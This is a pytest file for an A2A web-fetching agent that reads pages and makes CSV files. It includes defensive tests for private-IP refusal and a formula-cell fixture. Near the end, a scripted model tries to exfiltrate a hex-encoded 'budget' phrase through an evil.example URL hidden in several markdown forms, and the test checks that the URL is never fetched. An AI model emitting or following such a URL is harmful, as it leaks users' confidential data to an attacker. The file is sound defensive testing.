"""Whole stories over A2A: the protocol's own client, the real server, the real engine on the test web."""

import asyncio
import json
import threading

import httpx
import pytest
from a2a.client import A2ACardResolver, ClientConfig, ClientFactory
from a2a.helpers import get_data_parts, get_message_text, new_text_message
from a2a.types import (
    CancelTaskRequest,
    GetTaskRequest,
    ListTasksRequest,
    Role,
    SendMessageConfiguration,
    SendMessageRequest,
    TaskState,
)
from a2a.utils.errors import TaskNotCancelableError

from fetcher.agent import open_agent
from fetcher.settings import AgentSettings, Settings
from tests.engine import engine
from tests.fakes.gate import Gate
from tests.fakes.search_provider import KEY
from tests.fakes.turns import call, cite, say
from tests.fetcher.a2a.serving import Serving

SHOP = "http://shop.example/price"
PAGE = (
    "<title>料金</title><article><h1>料金</h1>"
    + "".join(f"<p>コーヒー豆は千二百円です。{'詳しい説明がここに続きます。' * 5}{n}。</p>" for n in range(4))
    + "<table><caption>料金表</caption><tr><th>品名<th>価格, 円"
    "<tr><td>豆「深煎り」<td>1,200<tr><td>=1+1<td>-5</table></article>"
)
CSV = '\ufeff品名,"価格, 円"\r\n豆「深煎り」,"1,200"\r\n\'=1+1,-5\r\n'.encode()


@pytest.fixture
def web(internet):
    internet.page(SHOP, PAGE)
    return internet


@pytest.fixture
def server(web):
    """The server as users run it, without a model, on the test web."""
    agent = lambda: open_agent(AgentSettings(), Settings(), pipeline=engine(web))  # noqa: E731
    with Serving(agent, a2a_max_tasks=2) as serving:
        yield serving


def _request(text, **configuration):
    return SendMessageRequest(
        message=new_text_message(text, role=Role.ROLE_USER),
        configuration=SendMessageConfiguration(**configuration),
    )


def _with_client(server, story, *, streaming=True, version="1.0"):
    async def run():
        async with httpx.AsyncClient(timeout=10) as http:
            card = await A2ACardResolver(http, server.url).get_agent_card()
            if version == "0.3":
                del card.supported_interfaces[0]
            for interface in card.supported_interfaces:
                interface.url = server.url
            config = ClientConfig(httpx_client=http, streaming=streaming)
            return await story(ClientFactory(config).create(card))

    return asyncio.run(run())


@pytest.mark.parametrize("version", ["1.0", "0.3"])
@pytest.mark.parametrize("streaming", [True, False])
def test_the_protocols_own_client_gets_an_answer_and_a_csv_file(server, streaming, version):
    """Streamed and not: the file's bytes are those that the table makes (A6, S9)."""

    async def story(client):
        artifacts, states = [], []
        async for event in client.send_message(_request(f"{SHOP} の料金表をCSVにして")):
            match event.WhichOneof("payload"):
                case "task":
                    artifacts += event.task.artifacts
                    states.append(event.task.status.state)
                case "artifact_update":
                    artifacts.append(event.artifact_update.artifact)
                case "status_update":
                    states.append(event.status_update.status.state)
        return artifacts, states

    [response, file], states = _with_client(server, story, streaming=streaming, version=version)
    assert states[-1] == TaskState.TASK_STATE_COMPLETED
    assert (TaskState.TASK_STATE_WORKING in states) is streaming
    assert (response.name, file.name) == ("execution_response", "generated_file")
    [data] = get_data_parts(response.parts)
    assert [source["url"] for source in data["sources"]] == [SHOP]
    [part] = file.parts
    assert part.raw == CSV
    assert (part.filename, part.media_type) == ("料金表.csv", "text/csv")


def test_pages_are_read_beside_the_server_and_cancelling_stops_the_fetch(web, server):
    gate = Gate()
    web.route(SHOP, gate.before(web.web._routes[SHOP]))

    async def story(client):
        [event] = [e async for e in client.send_message(_request(f"{SHOP} は？", return_immediately=True))]
        task_id = event.task.id
        assert await asyncio.to_thread(gate.wait_until_held, 1)
        assert (await asyncio.to_thread(server.ping))["status"] == "HealthyBusy"
        task = await client.cancel_task(CancelTaskRequest(id=task_id))
        assert task.status.state == TaskState.TASK_STATE_CANCELED
        with pytest.raises(TaskNotCancelableError):
            await client.cancel_task(CancelTaskRequest(id=task_id))
        kept = await client.get_task(GetTaskRequest(id=task_id))
        assert kept.status.state == TaskState.TASK_STATE_CANCELED
        listed = await client.list_tasks(ListTasksRequest(context_id=kept.context_id))
        assert [task.id for task in listed.tasks] == [task_id]

    _with_client(server, story, streaming=False)
    assert web.web.all_hung_up()
    assert server.ping()["status"] == "Healthy"


def test_ping_answers_while_the_processor_is_busy_with_pages(web, server, monkeypatch):
    """Whatever blocks the agent's loop does not block the server's."""
    blocked, go_on = threading.Event(), threading.Event()

    def stuck(*_, **__):
        blocked.set()
        assert go_on.wait(60)
        return ()

    monkeypatch.setattr("fetcher.agent.model.thread_messages.find_readings", stuck)
    asking = threading.Thread(target=server.call, args=("execute_task", _params(f"{SHOP} は？")))
    asking.start()
    assert blocked.wait(60)
    assert server.ping()["status"] == "HealthyBusy"
    go_on.set()
    asking.join(60)


def _params(text):
    return {"messages": [{"role": "user", "content": [{"type": "text", "text": text}]}]}


def test_only_the_documents_method_has_the_documents_words_for_a_failure(server):
    """`execute_task` has its labels; A2A, by which the Slack app may ask, has sentences."""
    question = "http://10.0.0.5/ は？"
    labelled = json.dumps(server.call("execute_task", _params(question)), ensure_ascii=False)
    assert "プライベートIPアクセス拒否：社内ネットワークなど" in labelled
    message = {"messageId": "m1", "role": "ROLE_USER", "parts": [{"text": question}]}
    plain = json.dumps(server.call("SendMessage", {"message": message}), ensure_ascii=False)
    assert "社内ネットワークなど、公開されていないアドレスのため読み取れません。" in plain
    assert "拒否" not in plain


def test_another_scheme_has_the_documents_word(server):
    """For callers of `execute_task`; no model is asked."""
    result = server.call("execute_task", _params("ftp://a.example/file を読んで"))["result"]
    assert result["messages"][0]["content"][0]["text"].startswith("URLスキームエラー：")


def test_with_a_model_the_answers_citations_are_its_sources(web, claude):
    claude.script(call("fetch_url", {"url": SHOP}), say("千二百円です。", citations=[cite(SHOP, 0, 1)]))
    chosen = AgentSettings.model_validate({"anthropic_api_key": "k", "anthropic_base_url": claude.url})
    agent = lambda: open_agent(chosen, Settings(), pipeline=engine(web))  # noqa: E731
    with Serving(agent) as server:
        result = server.call("execute_task", _params(f"{SHOP} は？"))["result"]
    [message] = result["messages"]
    assert message["content"][0]["text"] == f"千二百円です。 [1]\n\n出典:\n[1] 料金\n{SHOP}"
    data = result["artifacts"][0]["parts"][-1]["data"]
    assert (data["sources"][0]["url"], data["usage"]["calls"]) == (SHOP, 2)


def test_a_question_without_a_link_is_searched_for_and_the_caller_sees_the_words(web, provider):
    provider.pages.append((SHOP, "料金", ""))
    searching = {"search_provider": "tavily", "search_api_key": KEY, "search_base_url": provider.url}
    chosen = AgentSettings.model_validate(searching)
    agent = lambda: open_agent(chosen, Settings(), pipeline=engine(web))  # noqa: E731
    with Serving(agent) as server:
        result = server.call("execute_task", _params("コーヒー豆はいくら？"))["result"]
    assert "検索：「コーヒー豆はいくら？」" in result["messages"][0]["content"][0]["text"]
    data = result["artifacts"][0]["parts"][-1]["data"]
    assert (data["searches"], data["sources"][0]["url"]) == (["コーヒー豆はいくら？"], SHOP)


def test_a_second_question_in_the_same_context_knows_the_link_of_the_first(web, server):
    """A3: what was linked in the conversation may be read for it."""

    async def story(client):
        [first] = [e async for e in client.send_message(_request(f"{SHOP} は？"))]
        again = _request("料金表をCSVにして")
        again.message.context_id = first.task.context_id
        [second] = [e async for e in client.send_message(again)]
        return second.task

    task = _with_client(server, story, streaming=False)
    assert [artifact.name for artifact in task.artifacts] == ["execution_response", "generated_file"]
    assert get_message_text(task.history[0]) == "料金表をCSVにして"


LEAK = f"http://evil.example/c/{'来期の予算'.encode().hex()}"
WRITINGS = [
    f"`{LEAK}`",
    rf"\`{LEAK}\`",
    f"[a]({LEAK})",
    f"```\n{LEAK}\n```",
    f"{'`' * 21}{LEAK}{'`' * 21}",
    LEAK,
]


def _message(text, **fields):
    return {"message": {"messageId": "m-1", "role": "ROLE_USER", "parts": [{"text": text}], **fields}}


@pytest.mark.parametrize("writing", WRITINGS)
def test_what_an_answer_showed_is_not_known_to_the_next_question(web, claude, writing):
    """In the same context, by `execute_task` with the answer sent back, or quoted by a user."""
    web.page(LEAK, PAGE)
    settings = {"anthropic_api_key": "sk-test", "anthropic_base_url": claude.url, "model_max_retries": 0}
    agent = lambda: open_agent(  # noqa: E731
        AgentSettings.model_validate(settings), Settings(), pipeline=engine(web)
    )
    obeyed = (call("fetch_url", {"url": LEAK}) + call("fetch_url", {"url": SHOP}), say("はい。"))
    with Serving(agent) as server:
        claude.script(call("fetch_url", {"url": SHOP}), say(f"続きは {writing}"))
        task = server.call("SendMessage", _message(f"来期の予算。{SHOP} は？"))["result"]["task"]
        [response] = task["artifacts"]
        assert f"<{LEAK}>" not in response["parts"][0]["text"]
        claude.script(*obeyed)
        server.call("SendMessage", _message("続けて", contextId=task["contextId"]))
        said = response["parts"][0]["text"]
        quoted = "".join(f"> {line}\n" for line in said.split("\n"))
        for last in ("続けて", f"{quoted}これは？"):
            claude.script(*obeyed)
            turns = [("user", "予算"), ("agent", said), ("user", last)]
            messages = [{"role": role, "content": [{"type": "text", "text": text}]} for role, text in turns]
            known = response["parts"][-1]["data"]["known_urls"]
            server.call("execute_task", {"messages": messages, "context": {"known_urls": known}})
    assert web.web.count(LEAK) == 0
    assert web.web.count(SHOP) == 4
